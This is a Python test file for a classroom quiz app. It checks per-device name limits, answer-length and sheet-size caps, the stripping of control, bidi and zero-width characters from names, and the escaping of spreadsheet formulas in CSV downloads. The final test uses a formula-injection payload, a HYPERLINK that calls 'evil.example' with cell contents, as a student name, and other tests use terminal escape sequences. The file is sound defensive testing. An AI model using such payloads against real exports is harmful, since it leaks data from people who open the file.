"""Answer sheets served to a class (``typhoon-edu serve``): what one device may create and keep.

Every device can send any widget message, so a sheet limits the names one device keeps answers under, the length
of a typed answer, the answers one sheet keeps and the size of its file; names are cleaned of control, bidi and
zero-width characters; and the download CSV never starts a text cell with a spreadsheet formula.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from pathlib import Path

import pytest

from typhoon_edu.ui import quiz as quiz_mod
from typhoon_edu.ui.quiz import AnswerSheet, AnswerStore, Question, QuestionWidget, Quiz

DEVICE = "d" * 22
TEXT_Q = Question("risk", "explain", "text", answer=None)
NUMBER_Q = Question("intensity", "moderate_five", "number", answer=20)


def _served(tmp_path: Path, lang: str = "en", device: str | None = DEVICE) -> AnswerSheet:
    return AnswerSheet(lang, "compass", store=AnswerStore(tmp_path, device=device))


def _files(tmp_path: Path) -> list[Path]:
    return sorted(tmp_path.glob("*.json"))


# 1. one device, unlimited names


@pytest.mark.parametrize(("lang", "words"), [("en", "ask your teacher"), ("zh-TW", "請老師幫忙")])
def test_one_device_keeps_answers_under_a_few_names_only(tmp_path: Path, lang: str, words: str) -> None:
    sheet = _served(tmp_path, lang)
    n = quiz_mod.MAX_NAMES_PER_DEVICE
    for k in range(n):
        sheet.set_student(f"Name{k}")
        sheet.add("q?", "E", True)
    assert len(_files(tmp_path)) == n
    sheet.set_student("Zoe")  # one name more on this device within the hour: refused
    # the page no longer answers as the last name (review: Zoe's answers went into Name{n-1}'s file)
    assert sheet.student == "" and sheet.entries == []
    assert words in sheet.status.value and str(n) in sheet.status.value
    sheet.add("q?", "W", False)
    assert len(_files(tmp_path)) == n
    last = json.loads((tmp_path / _files(tmp_path)[-1].name).read_text(encoding="utf-8"))
    assert [e["answer"] for e in last["entries"]] == ["E"], "an answer of the refused name went into another's file"
    assert words in sheet.status_text() and words in sheet.reminder()  # still said after the answer
    sheet.set_student("name1")  # a name the device has already is fine
    # a name the device has already is fine; the answer given while no name was kept goes with it, as any answer
    # given before a name is typed does (the reminder said so)
    assert sheet.student == "name1" and [e.answer for e in sheet.entries] == ["E", "W"]
    # another device (another student) is not held back by this one
    other = AnswerSheet(lang, "compass", store=AnswerStore(tmp_path, device="e" * 22))
    other.set_student("Zoe")
    other.add("q?", "E", True)
    assert other.student == "Zoe" and len(_files(tmp_path)) == n + 1


def test_a_shared_computer_counts_the_last_hour_only(tmp_path: Path) -> None:
    """A lab PC that class after class uses (its device cookie lasts 400 days) is never refused for good: names
    started more than an hour ago do not count (review: the 6th class on one lab PC was refused)."""
    import os
    import time

    sheet = _served(tmp_path)
    n = quiz_mod.MAX_NAMES_PER_DEVICE
    for k in range(n):
        sheet.set_student(f"Earlier{k}")
        sheet.add("q?", "E", True)
    old = time.time() - quiz_mod.NAMES_WINDOW - 60
    for path in _files(tmp_path):
        os.utime(path, (old, old))
    sheet.set_student("Next class")
    sheet.add("q?", "E", True)
    assert sheet.student == "Next class" and len(_files(tmp_path)) == n + 1


def test_many_name_changes_of_one_device_leave_the_folder_small(tmp_path: Path) -> None:
    sheet = _served(tmp_path)
    for k in range(60):  # the review's device sent 2,100 of these
        sheet.set_student(f"Fake{k:04d}")
        sheet.add("q?", "E", True)
    assert len(_files(tmp_path)) == quiz_mod.MAX_NAMES_PER_DEVICE


def test_a_second_page_of_the_same_device_cannot_write_a_file_past_the_limit(tmp_path: Path) -> None:
    # two pages (kernels) of one device: the store itself refuses a new file past the limit
    pages = [_served(tmp_path) for _ in range(2)]
    n = quiz_mod.MAX_NAMES_PER_DEVICE
    for page in pages:
        page.set_student("Mei")  # both open a name while the device has fewer files
    for k in range(n):
        pages[0].set_student(f"Name{k}")
        pages[0].add("q?", "E", True)
    pages[1].add("q?", "E", True)  # "Mei" would be one file too many
    assert len(_files(tmp_path)) == n
    assert "ask your teacher" in pages[1].status_text() and pages[1].saved_to is None
    assert [e.answer for e in pages[1].entries] == ["E"]  # still in the page (downloadable)


def test_without_a_device_any_number_of_names_is_fine(tmp_path: Path) -> None:
    sheet = _served(tmp_path, device=None)  # a student's own JupyterLab
    for k in range(12):
        sheet.set_student(f"Name{k}")
        sheet.add("q?", "E", True)
    assert len(_files(tmp_path)) == 12


# 2. sizes


@pytest.mark.parametrize(("lang", "words"), [("en", "at most 2000"), ("zh-TW", "最多只能輸入 2000 個")])
def test_a_free_text_answer_is_at_most_2000_characters(lang: str, words: str) -> None:
    sheet = AnswerSheet(lang, "risk", store=None)
    qz = Quiz([TEXT_Q], lang, sheet=sheet)
    item = qz.items[0]
    result = item.answer("x" * 2001)
    assert words in result.problem and "2001" in result.problem
    assert sheet.entries == [] and item.result is None
    item.answer("y" * 2000)
    assert [len(e.answer) for e in sheet.entries] == [2000]


def test_a_typed_number_or_cell_is_short() -> None:
    widget = QuestionWidget(NUMBER_Q)
    assert "at most 100" in widget.answer("20" + " " * 200).problem
    assert widget.answer("2" * 300).problem == "Type a number, for example 12, 3.5 or 1/7."
    assert widget.result is None
    assert widget.answer(" 20 ").correct  # a normal answer with spaces still counts


def test_alternating_two_answers_stops_at_a_full_sheet(tmp_path: Path) -> None:
    sheet = _served(tmp_path, device=None)
    sheet.set_student("Mei")
    qz = Quiz([TEXT_Q], "en", sheet=sheet)
    for k in range(321):  # the last answer differs from the last one kept
        qz.items[0].answer("first" if k % 2 else "second")
    assert len(sheet.entries) == 300
    saved = json.loads(_files(tmp_path)[0].read_text(encoding="utf-8"))
    assert len(saved["entries"]) == 300
    assert "Your answer sheet is full (300 answers)" in qz.items[0].feedback.value
    assert "Saved" not in qz.items[0].feedback.value  # a free-text answer not kept is not said to be saved
    assert "ask your teacher" in sheet.status_text()


def test_a_full_sheet_says_so_in_chinese() -> None:
    sheet = AnswerSheet("zh-TW", "compass", store=None)
    for k in range(301):
        sheet.add("q?", str(k), None)
    assert len(sheet.entries) == 300 and sheet.reminder().startswith("你的答案表已經滿了（300 個答案）")


def test_the_file_size_is_checked_before_writing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(quiz_mod, "MAX_SHEET_BYTES", 20_000, raising=False)
    sheet = _served(tmp_path, device=None)
    sheet.set_student("Mei")
    for k in range(40):
        sheet.add("q?", f"{k} " + "字" * 1500, None, value="v")
    path = _files(tmp_path)[0]
    assert path.stat().st_size <= 20_000
    assert len(json.loads(path.read_text(encoding="utf-8"))["entries"]) == len(sheet.entries) < 40
    assert sheet.full and "full" in sheet.reminder()


def test_normal_use_is_unchanged(tmp_path: Path) -> None:
    sheet = _served(tmp_path)
    sheet.set_student("Mei Chen")
    qz = Quiz([NUMBER_Q, TEXT_Q], "en", sheet=sheet)
    assert qz.items[0].answer("20").correct
    qz.items[1].answer("Because it is strong.")
    assert [e.result for e in sheet.entries] == ["right", "free"] and not sheet.full
    assert "kept in" in sheet.status_text() and sheet.reminder() == ""


# 3. names cleaned


def test_control_bidi_and_zero_width_characters_leave_a_name(tmp_path: Path) -> None:
    sheet = _served(tmp_path)
    sheet.set_student("Mei\x1b[2J")
    sheet.add("q?", "E", True)
    saved = json.loads(_files(tmp_path)[0].read_text(encoding="utf-8"))
    assert saved["student"] == "Mei[2J" and sheet.student == "Mei[2J"
    sheet.set_student("\u202eAnn")
    sheet.add("q?", "E", True)
    students = {json.loads(p.read_text(encoding="utf-8"))["student"] for p in _files(tmp_path)}
    assert students == {"Mei[2J", "Ann"}


def test_a_zero_width_character_does_not_make_another_student(tmp_path: Path) -> None:
    sheet = _served(tmp_path, device=None)
    sheet.set_student("Zoe")
    sheet.add("q?", "E", True)
    sheet.set_student("Mei")
    sheet.set_student("Zoe\u200b")
    assert sheet.student == "Zoe" and [e.answer for e in sheet.entries] == ["E"]
    assert len(_files(tmp_path)) == 1


def test_a_name_of_invisible_characters_only_is_refused(tmp_path: Path) -> None:
    sheet = _served(tmp_path)
    sheet.set_student("Mei")
    sheet.add("q?", "E", True)
    sheet.set_student("\u200b\u202e\x1b")
    assert sheet.student == ""  # the page no longer answers as Mei: the next answer is not Mei's
    assert "A name needs at least one letter or digit." in sheet.status.value
    sheet.add("q?", "W", False)
    saved = json.loads(_files(tmp_path)[0].read_text(encoding="utf-8"))
    assert [e["answer"] for e in saved["entries"]] == ["E"]


def test_a_long_name_is_cut() -> None:
    from typhoon_edu.classroom.names import MAX_NAME_LENGTH

    sheet = AnswerSheet("en", "compass", store=None)
    sheet.set_student("M" * 500)
    assert len(sheet.student) == MAX_NAME_LENGTH


# 4. formulas in the download


def test_the_download_never_starts_a_text_cell_with_a_formula() -> None:
    sheet = AnswerSheet("en", "compass", store=None)
    sheet.set_student("=HYPERLINK(\"http://evil.example/?\"&B3,\"Mei\")")
    when = datetime(2026, 5, 1, 9, 30)
    sheet.add("+1 or -1?", "-1", True, when=when)
    sheet.add("Why?", "@SUM(A1)", None, when=when)
    sheet.add("Tab?", "\t=1", None, when=when)
    sheet.add("Plain?", "East", True, when=when)
    rows = list(csv.reader(io.StringIO(sheet.csv())))[1:]
    assert rows[0][:3] == ["'=HYPERLINK(\"http://evil.example/?\"&B3,\"Mei\")", "'+1 or -1?", "'-1"]
    assert rows[1][2] == "'@SUM(A1)" and rows[2][2] == "'\t=1"
    assert rows[3][1:4] == ["Plain?", "East", "right"]
    for row in rows:
        for cell in (row[0], row[1], row[2], row[5]):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    # the sheet itself keeps what was typed
    assert [e.answer for e in sheet.entries] == ["-1", "@SUM(A1)", "\t=1", "East"]
